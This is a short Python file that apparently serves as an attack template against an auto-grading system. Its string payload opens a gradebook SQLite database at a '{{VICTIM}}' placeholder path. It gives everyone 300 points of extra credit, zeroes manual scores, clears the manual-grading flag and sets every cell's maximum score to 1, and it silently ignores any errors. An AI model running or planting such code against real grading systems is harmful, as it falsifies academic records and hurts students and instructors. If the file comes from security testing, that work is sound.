"""Write extra credit for oneself and a zero for somebody else into the gradebook."""

FIRST = """
import sqlite3

try:
    _database = sqlite3.connect("{{VICTIM}}/gradebook.db", timeout=2)
    _database.execute("update grade set extra_credit = 300")
    _database.execute("update grade set manual_score = 0, needs_manual_grade = 0")
    _database.execute("update grade_cells set max_score = 1")
    _database.commit()
    _database.close()
except sqlite3.Error:
    pass
"""
